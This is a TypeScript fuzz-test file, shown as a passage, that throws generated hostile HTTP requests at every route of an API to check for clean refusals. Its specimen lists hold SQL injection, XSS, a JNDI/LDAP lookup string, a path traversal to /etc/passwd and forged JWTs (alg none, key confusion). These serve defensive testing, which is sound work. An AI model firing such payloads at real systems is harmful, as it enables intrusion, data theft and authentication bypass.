import fc from 'fast-check';
import { createHash, createHmac } from 'node:crypto';
import { AddressInfo, connect } from 'node:net';
import { BODY_LIMIT_BYTES } from '../../src/app.setup';
import { MAX_ID } from '../../src/common/validation.pipe';
import {
  createTestApp,
  logIn,
  registerUser,
  TestApp,
  TestUser,
  TEST_JWT_SECRET,
  TEST_PASSWORD,
} from '../support/test-app';

/*
 * Generated bad input, sent over real HTTP to every route of the served OpenAPI document
 * (and to the docs pages and to paths that do not exist). Whatever a client sends, the
 * contract promises three things, checked on every answer:
 *   1. no 5xx: the database is up, so nothing a client sends may become a 500 (or a 503);
 *   2. every answer that is not 2xx is problem+json with type, title, status and detail;
 *   3. a refused request changes no table.
 * Set FAST_CHECK_SEED to replay a run; fast-check prints the seed of a failing run.
 */

/** The global and login rate limits would turn a fuzzing run into a wall of 429s. */
const APP_ENVIRONMENT = {
  RATE_LIMIT_MAX: '1000000',
  // The most the configuration accepts; far more failures than one run makes for one e-mail.
  LOGIN_MAX_FAILURES: '1000',
};
const SEED = process.env.FAST_CHECK_SEED === undefined ? undefined : Number(process.env.FAST_CHECK_SEED);
const REQUEST_TIMEOUT_MS = 15_000;
/** Room for fast-check to shrink a failure to its smallest request. */
const PROPERTY_TIMEOUT_MS = 300_000;
/** Node's default limit for the request line and headers together. */
const MAX_HEADER_BYTES = 16 * 1024;

/** A list written as words separated by white space. */
const words = (text: string) => text.trim().split(/\s+/);

type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE' | 'HEAD' | 'OPTIONS' | 'TRACE' | 'PROPFIND' | 'SEARCH';
const DOCUMENTED_METHODS: Method[] = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE'];
const ANY_METHOD: Method[] = [...DOCUMENTED_METHODS, 'HEAD', 'OPTIONS', 'TRACE', 'PROPFIND', 'SEARCH'];
const FORM = 'application/x-www-form-urlencoded';
const JSON_TYPE = 'application/json';

// ---------------------------------------------------------------------------------------
// The routes, read from the running app's OpenAPI document
// ---------------------------------------------------------------------------------------

interface PropertySchema {
  type?: string;
  enum?: unknown[];
  example?: unknown;
  minimum?: number;
}

interface SchemaObject {
  $ref?: string;
  properties?: Record<string, PropertySchema>;
}

interface OpenApiDocument {
  paths: Record<
    string,
    Record<
      string,
      {
        security?: unknown[];
        parameters?: { name: string; in: string }[];
        requestBody?: { content: Record<string, { schema?: SchemaObject }> };
      }
    >
  >;
  components: { schemas: Record<string, SchemaObject> };
}

interface Operation {
  method: Method;
  /** As the document writes it: `/posts/{id}`. */
  template: string;
  secured: boolean;
  bodyFields: Record<string, PropertySchema>;
  bodyTypes: string[];
  queryNames: string[];
}

/** Served beside the API but not described by the document; a 2xx there is HTML, JS, JSON or YAML. */
const DOCS_PAGES = ['/docs', '/redoc', '/openapi.json', '/openapi.yaml'];

function operationsOf(document: OpenApiDocument): Operation[] {
  const operations: Operation[] = [];
  for (const [template, methods] of Object.entries(document.paths)) {
    for (const [method, operation] of Object.entries(methods)) {
      const content = operation.requestBody?.content ?? {};
      const schema = Object.values(content)[0]?.schema;
      const resolved = schema?.$ref ? document.components.schemas[schema.$ref.split('/').pop() as string] : schema;
      operations.push({
        method: method.toUpperCase() as Method,
        template,
        secured: (operation.security ?? []).length > 0,
        bodyFields: resolved?.properties ?? {},
        bodyTypes: Object.keys(content),
        queryNames: (operation.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name),
      });
    }
  }
  const docsPages = DOCS_PAGES.map((template): Operation => ({
    method: 'GET',
    template,
    secured: false,
    bodyFields: {},
    bodyTypes: [],
    queryNames: [],
  }));
  return [...operations, ...docsPages];
}

const keyOf = (operation: Operation) => `${operation.method} ${operation.template}`;

// ---------------------------------------------------------------------------------------
// Fixtures: real users, posts, sessions and tokens, looked up when a request is sent
// ---------------------------------------------------------------------------------------

interface Account extends TestUser {
  passwordHash: string;
}

interface FixtureState {
  alice: Account;
  bob: Account;
  posts: { alicePublished: number; aliceDraft: number; bobPublished: number; bobDraft: number };
  /** A session of alice whose first refresh token was already traded in. */
  spent: { sessionId: number; refreshToken: string };
  deletedUser: { id: number; token: string };
  loggedOutToken: string;
}

/**
 * A value from the fixtures (an id, a token, an e-mail), resolved when the request is sent:
 * generated requests stay valid when a generated DELETE /users/me or logout replaced one.
 */
class Fixture {
  constructor(
    readonly label: string,
    readonly resolve: (state: FixtureState) => string | number,
  ) {}

  [fc.toStringMethod](): string {
    return `<${this.label}>`;
  }
}

/** JSON text spliced into a body as it is: numbers JSON.stringify cannot write, deep nesting. */
class RawJson {
  constructor(readonly text: string) {}

  [fc.toStringMethod](): string {
    return `raw(${preview(this.text, 60)})`;
  }
}

const nowInSeconds = () => Math.floor(Date.now() / 1000);

function base64url(text: string | Buffer): string {
  return Buffer.from(text).toString('base64url');
}

function sha256(text: string): string {
  return createHash('sha256').update(text, 'utf8').digest('hex');
}

/** A JWT with any header and payload, its HMAC computed with `hash` and `secret`. */
function signToken(header: object, payload: unknown, hash = 'sha256', secret = TEST_JWT_SECRET): string {
  const signingInput = `${base64url(JSON.stringify(header))}.${base64url(JSON.stringify(payload) ?? 'null')}`;
  return `${signingInput}.${createHmac(hash, secret).update(signingInput).digest('base64url')}`;
}

function claimsOf(account: Account, overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    sub: String(account.id),
    user_id: account.id,
    sid: account.sessionId,
    iat: nowInSeconds(),
    exp: nowInSeconds() + 1800,
    ...overrides,
  };
}

const HS256 = { alg: 'HS256', typ: 'JWT' };

const F = {
  alicePublishedPost: new Fixture("alice's published post", (s) => s.posts.alicePublished),
  aliceDraft: new Fixture("alice's draft", (s) => s.posts.aliceDraft),
  bobPublishedPost: new Fixture("bob's published post", (s) => s.posts.bobPublished),
  bobDraft: new Fixture("bob's draft", (s) => s.posts.bobDraft),
  aliceId: new Fixture("alice's id", (s) => s.alice.id),
  bobId: new Fixture("bob's id", (s) => s.bob.id),
  deletedUserId: new Fixture("a deleted user's id", (s) => s.deletedUser.id),
  aliceSession: new Fixture("alice's session id", (s) => s.alice.sessionId),
  bobSession: new Fixture("bob's session id", (s) => s.bob.sessionId),
  spentSession: new Fixture('the id of the session with a spent refresh token', (s) => s.spent.sessionId),
  aliceEmail: new Fixture("alice's e-mail", (s) => s.alice.email),
  aliceEmailShouted: new Fixture("alice's e-mail, upper-case and padded", (s) => ` ${s.alice.email.toUpperCase()} `),
  bobEmail: new Fixture("bob's e-mail", (s) => s.bob.email),
  aliceRefreshToken: new Fixture("alice's refresh token", (s) => s.alice.refreshToken),
  bobRefreshToken: new Fixture("bob's refresh token", (s) => s.bob.refreshToken),
  spentRefreshToken: new Fixture('a spent refresh token', (s) => s.spent.refreshToken),
  aliceBearer: new Fixture("alice's bearer token", (s) => `Bearer ${s.alice.token}`),
  bobBearer: new Fixture("bob's bearer token", (s) => `Bearer ${s.bob.token}`),
};

const POST_IDS = [F.alicePublishedPost, F.aliceDraft, F.bobPublishedPost, F.bobDraft];
const ALL_IDS = [...POST_IDS, F.aliceId, F.bobId, F.deletedUserId, F.aliceSession, F.bobSession, F.spentSession];

/** Tokens a thief or a confused client could send: each must be a 401, never a 500 or a 2xx. */
const FORGED_BEARERS = [
  new Fixture("a deleted user's token", (s) => `Bearer ${s.deletedUser.token}`),
  new Fixture('a logged-out token', (s) => `Bearer ${s.loggedOutToken}`),
  new Fixture(
    "alice's claims with alg none",
    (s) => `Bearer ${base64url('{"alg":"none"}')}.${base64url(JSON.stringify(claimsOf(s.alice)))}.`,
  ),
  new Fixture(
    "alice's claims signed with another secret",
    (s) => `Bearer ${signToken(HS256, claimsOf(s.alice), 'sha256', 'not-the-secret-but-long-enough-0123456789abcdef')}`,
  ),
  new Fixture(
    "alice's claims signed HS512 with the secret",
    (s) => `Bearer ${signToken({ alg: 'HS512', typ: 'JWT' }, claimsOf(s.alice), 'sha512')}`,
  ),
  new Fixture(
    "alice's claims as RS256, HMAC'd with the secret",
    (s) => `Bearer ${signToken({ alg: 'RS256', typ: 'JWT' }, claimsOf(s.alice))}`,
  ),
  new Fixture("alice's token with bob's payload", (s) => {
    const [header, , signature] = s.alice.token.split('.');
    return `Bearer ${header}.${s.bob.token.split('.')[1]}.${signature}`;
  }),
  new Fixture(
    "alice's token without its signature",
    (s) => `Bearer ${s.alice.token.split('.').slice(0, 2).join('.')}.`,
  ),
  new Fixture(
    "alice's token, expired",
    (s) => `Bearer ${signToken(HS256, claimsOf(s.alice, { iat: nowInSeconds() - 7200, exp: nowInSeconds() - 3600 }))}`,
  ),
  new Fixture(
    'a token of a user that never existed',
    (s) => `Bearer ${signToken(HS256, claimsOf(s.alice, { sub: String(MAX_ID), user_id: MAX_ID }))}`,
  ),
  new Fixture(
    "alice's id with bob's session",
    (s) => `Bearer ${signToken(HS256, claimsOf(s.alice, { sid: s.bob.sessionId }))}`,
  ),
  new Fixture("alice's token, twice", (s) => `Bearer ${s.alice.token} ${s.alice.token}`),
  new Fixture("alice's token with a trailing dot", (s) => `Bearer ${s.alice.token}.`),
  new Fixture("alice's token with the scheme in lower case", (s) => `bearer ${s.alice.token}`),
  new Fixture("alice's token under the Basic scheme", (s) => `Basic ${s.alice.token}`),
];

/** Replaces every Fixture in a generated value by its current value. */
function resolveDeep(value: unknown, state: FixtureState): unknown {
  if (value instanceof Fixture) {
    return value.resolve(state);
  }
  if (Array.isArray(value)) {
    return value.map((item) => resolveDeep(item, state));
  }
  if (value !== null && typeof value === 'object' && !(value instanceof RawJson)) {
    return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, resolveDeep(item, state)]));
  }
  return value;
}

/** JSON text of a generated value; unlike JSON.stringify it keeps RawJson and own `__proto__` keys. */
function toJsonText(value: unknown, state: FixtureState): string {
  if (value instanceof Fixture) {
    return JSON.stringify(value.resolve(state));
  }
  if (value instanceof RawJson) {
    return value.text;
  }
  if (Array.isArray(value)) {
    return `[${value.map((item) => toJsonText(item, state)).join(',')}]`;
  }
  if (value !== null && typeof value === 'object') {
    const members = Object.entries(value).map(([key, item]) => `${JSON.stringify(key)}:${toJsonText(item, state)}`);
    return `{${members.join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}

// ---------------------------------------------------------------------------------------
// Requests: what the arbitraries produce, and how they are printed
// ---------------------------------------------------------------------------------------

type BodyPlan =
  | { kind: 'json'; contentType: string; value: unknown }
  | { kind: 'form'; contentType: string; pairs: [string, string | Fixture][] }
  | { kind: 'raw'; contentType?: string; data: string | Buffer };

interface RequestPlan {
  /** The documented route this request aims at (none for unknown paths). */
  operation?: Operation;
  method: Method;
  /** Sent as written: literal text is already percent-encoded. */
  path: (string | Fixture)[];
  query?: string;
  authorization?: string | Fixture;
  headers: Record<string, string>;
  body?: BodyPlan;
  /** Sent on a raw socket with this broken framing (see FRAMINGS). */
  framing?: string;
}

/** The request as it goes on the wire. */
interface SentRequest {
  method: Method;
  url: string;
  headers: Record<string, string>;
  body?: Buffer;
  framing?: string;
}

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  text: string;
}

function preview(text: string | Buffer, max = 300): string {
  const shown = Buffer.isBuffer(text) ? text.subarray(0, max).toString('utf8') : text.slice(0, max);
  const more = text.length > max ? ` … (${text.length} ${Buffer.isBuffer(text) ? 'bytes' : 'characters'})` : '';
  return `${JSON.stringify(shown)}${more}`;
}

/** How fast-check prints a generated request: short, with fixtures by name. */
function describePlan(plan: RequestPlan): string {
  const path = plan.path.map((part) => (part instanceof Fixture ? `<${part.label}>` : part)).join('');
  const parts = [`${plan.method} ${preview(path, 120)}`];
  if (plan.query !== undefined) {
    parts.push(`query ${preview(plan.query, 120)}`);
  }
  if (plan.authorization !== undefined) {
    parts.push(
      `Authorization ${plan.authorization instanceof Fixture ? `<${plan.authorization.label}>` : preview(plan.authorization, 80)}`,
    );
  }
  for (const [name, value] of Object.entries(plan.headers)) {
    parts.push(`${name}: ${preview(value, 80)}`);
  }
  const body = plan.body;
  if (body?.kind === 'json') {
    parts.push(`${body.contentType} ${preview(fc.stringify(body.value), 200)}`);
  } else if (body?.kind === 'form') {
    parts.push(`${body.contentType} ${preview(fc.stringify(body.pairs), 200)}`);
  } else if (body?.kind === 'raw') {
    parts.push(`${body.contentType ?? '(no Content-Type)'} ${preview(body.data, 200)}`);
  }
  if (plan.framing !== undefined) {
    parts.push(`framing: ${plan.framing}`);
  }
  return `{ ${parts.join(' | ')} }`;
}

function describable(plan: RequestPlan): RequestPlan {
  return Object.assign(plan, { [fc.toStringMethod]: () => describePlan(plan) });
}

function describeExchange(request: SentRequest, answer: Answer | undefined): string {
  const headers = Object.entries(request.headers).map(([name, value]) => `    ${name}: ${preview(value, 160)}`);
  const lines = [
    'Request:',
    `  ${request.method} ${preview(request.url, 400)}`,
    ...headers,
    `  body: ${request.body === undefined ? '(none)' : preview(request.body, 400)}`,
    ...(request.framing === undefined ? [] : [`  sent on a raw socket with ${request.framing}`]),
  ];
  if (answer) {
    const answerHeaders = ['content-type', 'www-authenticate', 'retry-after', 'location']
      .filter((name) => answer.headers[name] !== undefined)
      .map((name) => `    ${name}: ${String(answer.headers[name])}`);
    lines.push('Answer:', `  ${answer.status}`, ...answerHeaders, `  body: ${preview(answer.text, 600)}`);
  }
  return lines.join('\n');
}

/** Every byte of the UTF-8 text percent-encoded but the unreserved ones (a lone surrogate becomes U+FFFD). */
function percentEncode(text: string): string {
  let encoded = '';
  for (const byte of Buffer.from(text, 'utf8')) {
    const character = String.fromCharCode(byte);
    encoded += /[A-Za-z0-9\-._~]/.test(character) ? character : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return encoded;
}

/** The route's path with `segment` for its parameter (`/posts/{id}`), and a trailing slash if asked. */
function pathOf(operation: Operation, segment: string | Fixture, trailingSlash = false): (string | Fixture)[] {
  const parts = operation.template
    .split(/(\{[^}]+\})/)
    .filter((piece) => piece !== '')
    .map((piece) => (piece.startsWith('{') ? segment : piece));
  return trailingSlash ? [...parts, '/'] : parts;
}

// ---------------------------------------------------------------------------------------
// Arbitraries: hostile text and numbers
// ---------------------------------------------------------------------------------------

const UNICODE_SPECIMENS = [
  '👍🏽',
  '👨‍👩‍👧‍👦',
  '🏳️‍🌈',
  '𝕳𝖊𝖑𝖑𝖔',
  'مرحبا بالعالم',
  'שלום עולם',
  '\u202Egnp.exe',
  '\u200B',
  '\u200D\u200C',
  '\uFEFF',
  'Z\u0324\u0354\u0367\u0311\u0313a\u0356\u036D\u0308\u0307',
  '\u0000',
  'a\u0000b',
  '\u0001\u001F\u007F',
  '\r\n\t',
  '\u2028\u2029',
  'İıß\uFB03',
  '\uFFFE\uFFFF',
  '\u{10FFFF}',
  '\uD800',
  '\uDFFF',
  'a\uD83Db',
  '\uDE00\uD83D',
];

const INJECTION_SPECIMENS = [
  "' OR 1=1 --",
  "'; DROP TABLE posts; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5); --',
  "') UNION SELECT password_hash FROM users --",
  '%',
  '_',
  '\\',
  '%_%\\',
  '$1',
  '::int',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '${jndi:ldap://example.com/a}',
  '../../../etc/passwd',
  'null',
  'undefined',
  '[object Object]',
  '__proto__',
  'constructor',
];

/** Around the limits of the contract: 200-character titles, 20,000-character content, 72-byte passwords. */
const boundaryText = fc
  .tuple(
    fc.constantFrom(7, 8, 36, 37, 72, 73, 199, 200, 201, 254, 255, 20_000, 20_001),
    fc.constantFrom('a', 'é', '👍', ' '),
  )
  .map(([count, unit]) => unit.repeat(count));

/** Tens of kilobytes; escaped characters make some of them larger than the body limit. */
const hugeText = fc
  .tuple(fc.integer({ min: 10_000, max: 70_000 }), fc.constantFrom('a', 'é', '👍', '\u0000', '"', '\\', '\uD800'))
  .map(([count, unit]) => unit.repeat(count));

const loneSurrogateUnit = fc
  .oneof(fc.integer({ min: 0xd800, max: 0xdfff }), fc.integer({ min: 0x20, max: 0x7e }))
  .map((code) => String.fromCharCode(code));

/** Text for URLs and headers: anything, but short enough for the 16 KiB header limit. */
const shortHostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 15 }) },
  { weight: 1, arbitrary: fc.string({ unit: loneSurrogateUnit, maxLength: 10 }) },
  { weight: 3, arbitrary: fc.constantFrom(...UNICODE_SPECIMENS) },
  { weight: 3, arbitrary: fc.constantFrom(...INJECTION_SPECIMENS) },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.constantFrom(...UNICODE_SPECIMENS, ...INJECTION_SPECIMENS), { minLength: 2, maxLength: 5 })
      .map((pieces) => pieces.join('')),
  },
);

/** Text for bodies: all of the above, around the limits, and huge. */
const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 12, arbitrary: shortHostileText },
  { weight: 2, arbitrary: boundaryText },
  { weight: 1, arbitrary: hugeText },
);

const hostileNumber = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(0, -0, -1, 0.5, 1.5, MAX_ID, MAX_ID + 1, 2 ** 32, 2 ** 53, 2 ** 53 + 2, -(2 ** 31) - 1, 1e21, 1e308),
);

/** Numbers JSON.stringify never writes, and number-like tokens that are not JSON at all. */
const numberTokens = fc
  .constantFrom(
    ...words('1e999 -1e999 -0 1.0 1E2 0.1e1 1e-400 123456789012345678901234567890 01 +1 .5 0x10 NaN Infinity'),
  )
  .map((text) => new RawJson(text));

/** Nesting deep enough to find recursion in a parser or a validator. */
const deepNesting = fc
  .tuple(fc.integer({ min: 100, max: 20_000 }), fc.boolean())
  .map(
    ([depth, arrays]) =>
      new RawJson(arrays ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth)),
  );

const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];
/** Fields a client must not be able to set, and prototype names. */
const EXTRA_FIELDS = [...words('id owner_id user_id created_at votes password_hash is_admin'), ...PROTOTYPE_KEYS, ''];

const jsonKey = fc.oneof(
  fc.constantFrom(...EXTRA_FIELDS, 'title', 'content', 'email', 'password'),
  fc.string({ maxLength: 10 }),
);

const hostileScalar = fc.oneof(
  { weight: 2, arbitrary: fc.constant(null) },
  { weight: 2, arbitrary: fc.boolean() },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 6, arbitrary: hostileText },
  { weight: 1, arbitrary: numberTokens },
  { weight: 1, arbitrary: deepNesting },
);

/** Any JSON value, with nested arrays and objects. */
const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{
  value: unknown;
  array: unknown[];
  object: Record<string, unknown>;
}>((tie) => ({
  value: fc.oneof({ depthSize: 'small', maxDepth: 3 }, hostileScalar, tie('array'), tie('object')),
  array: fc.array(tie('value'), { maxLength: 4 }),
  object: fc.dictionary(jsonKey, tie('value'), { maxKeys: 4 }),
})).value;

/** A small JSON value without huge strings, for token headers and payloads. */
const smallJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  hostileNumber,
  shortHostileText,
  fc.dictionary(fc.string({ maxLength: 6 }), fc.oneof(shortHostileText, hostileNumber), { maxKeys: 3 }),
);

// ---------------------------------------------------------------------------------------
// Arbitraries: bodies
// ---------------------------------------------------------------------------------------

/** A value the route could accept for this field: reaches the rules behind the validation. */
function plausibleValue(name: string, schema: PropertySchema): fc.Arbitrary<unknown> {
  switch (name) {
    case 'post_id':
      return fc.oneof(fc.constantFrom(...POST_IDS), fc.integer({ min: 1, max: MAX_ID }));
    case 'refresh_token':
      return fc.oneof(
        fc.constantFrom(F.aliceRefreshToken, F.bobRefreshToken, F.spentRefreshToken),
        fc.base64String({ minLength: 44, maxLength: 44 }),
      );
    case 'username':
    case 'email':
      return fc.oneof(fc.constantFrom(F.aliceEmail, F.aliceEmailShouted, F.bobEmail), fc.emailAddress());
    case 'password':
    case 'current_password':
      return fc.constantFrom(TEST_PASSWORD, 'not the password at all');
  }
  if (schema.enum) {
    return fc.constantFrom(...schema.enum);
  }
  switch (schema.type) {
    case 'boolean':
      return fc.boolean();
    case 'number':
    case 'integer':
      return fc.integer({ min: schema.minimum ?? 0, max: 1000 });
    case 'string':
      return fc.oneof(
        fc.constant(schema.example ?? 'text'),
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
        fc.constantFrom(...UNICODE_SPECIMENS, ...INJECTION_SPECIMENS),
      );
    default:
      return fc.constant(schema.example ?? null);
  }
}

function plausibleBody(operation: Operation, allFields: boolean): fc.Arbitrary<Record<string, unknown>> {
  const fields = Object.fromEntries(
    Object.entries(operation.bodyFields).map(([name, schema]) => [name, plausibleValue(name, schema)]),
  );
  return fc.record(fields, allFields ? {} : { requiredKeys: [] });
}

/** Mostly JSON, sometimes declared as something else: the body must still be refused cleanly. */
const jsonContentType = fc.oneof(
  { weight: 12, arbitrary: fc.constant(JSON_TYPE) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      'application/json; charset=utf-8',
      'Application/JSON',
      'application/json; charset=utf-16',
      'application/json; charset=latin1',
      'application/json;',
      'application/problem+json',
      'application/merge-patch+json',
      'text/json',
      'text/plain',
      FORM,
      'multipart/form-data; boundary=x',
      'application/octet-stream',
      'application/xml',
    ),
  },
);

/** A JSON body for this route: plausible, with fields missing, wrong, extra, or not an object at all. */
function jsonBody(operation: Operation): fc.Arbitrary<BodyPlan> {
  const names = Object.keys(operation.bodyFields);
  const full = plausibleBody(operation, true);
  const withField = (key: fc.Arbitrary<string>) =>
    fc.tuple(full, key, hostileJson).map(([body, name, value]) => ({ ...body, [name]: value }));
  const value = fc.oneof(
    { weight: 3, arbitrary: full },
    { weight: 2, arbitrary: plausibleBody(operation, false) },
    // One documented field with a wrong value (a random key when the route has no body).
    { weight: 6, arbitrary: withField(names.length > 0 ? fc.constantFrom(...names) : jsonKey) },
    { weight: 2, arbitrary: withField(fc.constantFrom(...EXTRA_FIELDS)) },
    { weight: 2, arbitrary: hostileJson },
  );
  return fc.record({ kind: fc.constant('json' as const), contentType: jsonContentType, value });
}

const formKey = (operation: Operation) =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...Object.keys(operation.bodyFields), 'username') },
    { weight: 1, arbitrary: fc.constantFrom(...EXTRA_FIELDS, 'username[]', 'password[0]', 'a[b][c]') },
    { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
  );

/** The OAuth2 form: repeated keys, empty values, hostile text, real e-mails and tokens. */
function formBody(operation: Operation): fc.Arbitrary<BodyPlan> {
  const value = fc.oneof(
    ...Object.entries(operation.bodyFields).map(([name, schema]) =>
      plausibleValue(name, schema).map((item) => (item instanceof Fixture ? item : String(item))),
    ),
    hostileText,
  );
  return fc.record({
    kind: fc.constant('form' as const),
    contentType: fc.constantFrom(FORM, `${FORM}; charset=utf-8`, `${FORM}; charset=latin1`),
    pairs: fc.array(fc.tuple(formKey(operation), value), { maxLength: 6 }),
  });
}

function bodyOf(operation: Operation): fc.Arbitrary<BodyPlan | undefined> {
  if (operation.bodyTypes.includes(FORM)) {
    return fc.oneof(jsonBody(operation), formBody(operation));
  }
  if (operation.bodyTypes.length > 0) {
    return jsonBody(operation);
  }
  // A body where none is expected, now and then.
  return fc.oneof({ weight: 5, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: jsonBody(operation) });
}

/** A body that gets past validation when the fields allow it: for the properties about other parts. */
function plausibleBodyOf(operation: Operation): fc.Arbitrary<BodyPlan | undefined> {
  if (operation.bodyTypes.length === 0) {
    return fc.constant(undefined);
  }
  return plausibleBody(operation, true).map((value) => ({ kind: 'json' as const, contentType: JSON_TYPE, value }));
}

const MALFORMED_JSON = [
  '',
  ' ',
  '{',
  '}',
  '[',
  '{"',
  '{"title":',
  '{"title":"x"',
  '{"title":"x",}',
  '{title:"x"}',
  "{'title':'x'}",
  '{"title":"x" "content":"y"}',
  '{"title":"x","content":"y"}garbage',
  '{"a":1}{"b":2}',
  '[1,2',
  'nul',
  'tru',
  'undefined',
  'NaN',
  '\u0000',
  '{"title":"\u0000","content":"y"}',
  '{"title":"a\nb","content":"y"}',
  '{"title":"\\x41","content":"y"}',
  '{"title":"\\ud800","content":"\\udfff"}',
  '{"title":"\\u0000","content":"y"}',
  '"just a string"',
  '42',
  'null',
  'true',
  '[]',
  '{}',
  '[{"title":"x","content":"y"}]',
  '{"__proto__":{"is_admin":true},"title":"x","content":"y"}',
  '{"constructor":{"prototype":{"is_admin":true}},"title":"x","content":"y"}',
  '{"title":"a","title":"b","content":"c"}',
  '\uFEFF{"title":"x","content":"y"}',
  '{"title":"x","content":"y"}\u0000',
  '{"post_id":1e999,"dir":1}',
  '{"post_id":-0,"dir":1.0}',
];

const CONTENT_TYPES = [
  JSON_TYPE,
  'application/json; charset=utf-16',
  'application/json; charset=nonsense',
  'application/problem+json',
  'application/vnd.api+json',
  'text/json',
  'text/plain',
  'text/html',
  'application/xml',
  FORM,
  'multipart/form-data; boundary=----x',
  'multipart/form-data',
  'application/octet-stream',
  'application/javascript',
  '*/*',
  'json',
  'application/',
  '/',
  ';',
  'garbage',
  ' application/json',
  'application/json, text/plain',
  `application/${'x'.repeat(1000)}`,
];

/** Exactly at the body limit (read, then refused or accepted by the rules) or over it (413). */
const sizedBody = fc
  .tuple(
    fc.constantFrom(BODY_LIMIT_BYTES, BODY_LIMIT_BYTES + 1, BODY_LIMIT_BYTES + 4096, 2 * BODY_LIMIT_BYTES),
    fc.constantFrom('string', 'spaces', 'form'),
  )
  .map(([size, shape]): Buffer => {
    if (shape === 'form') {
      return Buffer.from(`username=${'a'.repeat(size - 'username=&password=x'.length)}&password=x`);
    }
    const [prefix, suffix] = shape === 'string' ? ['{"title":"x","content":"', '"}'] : ['{"title":"x"', '}'];
    const filler = (shape === 'string' ? 'a' : ' ').repeat(size - prefix.length - suffix.length);
    return Buffer.from(prefix + filler + suffix);
  });

/** Bytes that are not UTF-8, alone or inside a JSON string. */
const brokenBytes = fc.oneof(
  fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)),
  fc
    .uint8Array({ minLength: 1, maxLength: 20 })
    .map((bytes) => Buffer.concat([Buffer.from('{"title":"'), Buffer.from(bytes), Buffer.from('","content":"y"}')])),
  fc.constant(Buffer.from([0x7b, 0x22, 0x74, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0x22, 0x7d])),
);

/** Raw bytes with any Content-Type (or none): malformed JSON, valid JSON mislabelled, forms, bytes, oversize. */
function rawBody(operation: Operation): fc.Arbitrary<BodyPlan> {
  const data = fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom(...MALFORMED_JSON) },
    { weight: 2, arbitrary: deepNesting.map((raw) => `{"title":${raw.text},"content":"y"}`) },
    { weight: 2, arbitrary: plausibleBody(operation, true).map((body) => JSON.stringify(body)) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        'username=&password=',
        'a=b&&&',
        '=',
        '&=&',
        '%',
        '%ZZ=%FF',
        'username=%00&password=%00',
        'username=a&username=b&password=c',
      ),
    },
    { weight: 2, arbitrary: brokenBytes },
    { weight: 1, arbitrary: sizedBody },
  );
  const contentType = fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );
  return fc.record({ kind: fc.constant('raw' as const), contentType, data });
}

// ---------------------------------------------------------------------------------------
// Arbitraries: callers, headers, query strings, path segments
// ---------------------------------------------------------------------------------------

/** Mostly alice with her real token, so the validation behind the guard is reached. */
const caller: fc.Arbitrary<Fixture | string | undefined> = fc.oneof(
  { weight: 8, arbitrary: fc.constant(F.aliceBearer) },
  { weight: 2, arbitrary: fc.constant(F.bobBearer) },
  { weight: 1, arbitrary: fc.constant(undefined) },
  { weight: 1, arbitrary: fc.constantFrom(...FORGED_BEARERS) },
);

/** Header values Node's HTTP client lets through: tab, printable ASCII and Latin-1. */
const headerText = fc.oneof(
  fc.string({ maxLength: 60 }),
  fc.string({
    unit: fc
      .oneof(fc.constant(0x09), fc.integer({ min: 0x20, max: 0x7e }), fc.integer({ min: 0x80, max: 0xff }))
      .map((code) => String.fromCharCode(code)),
    maxLength: 60,
  }),
  fc.constantFrom(...INJECTION_SPECIMENS, '', ' ', '-1', '9'.repeat(100), 'a'.repeat(1000)),
);

const claimValue = fc.oneof(
  fc.constantFrom(F.aliceId, F.aliceSession, F.bobId, F.bobSession, F.deletedUserId),
  fc.constantFrom(...['abc', '-1', '0', '1.5', '1e3', '01', ' 1', '99999999999', '2147483648', '1 OR 1=1', '']),
  smallJson,
);
const timeClaim = fc.oneof(
  fc.constant(new Fixture('in 30 minutes', () => nowInSeconds() + 1800)),
  fc.constant(new Fixture('an hour ago', () => nowInSeconds() - 3600)),
  smallJson,
);

/** Tokens signed with the real secret but claims of any shape: what a leaked secret or a bug could produce. */
const signedClaims = fc
  .record(
    { sub: claimValue, user_id: claimValue, sid: claimValue, iat: timeClaim, exp: timeClaim, nbf: timeClaim },
    { requiredKeys: [] },
  )
  .map(
    (claims) =>
      new Fixture(`an HS256 token signed with the secret, claims ${fc.stringify(claims)}`, (s) => {
        const resolved = resolveDeep(claims, s) as Record<string, unknown>;
        // A sub that is a fixture id stays text, as the service writes it.
        return `Bearer ${signToken(HS256, { ...resolved, sub: typeof resolved.sub === 'number' ? String(resolved.sub) : resolved.sub })}`;
      }),
  );

const garbageAuthorization = fc.oneof(
  fc.constantFrom(
    'Bearer',
    'Bearer ',
    'Bearer  ',
    'bearer',
    'Bearer null',
    'Bearer a.b.c',
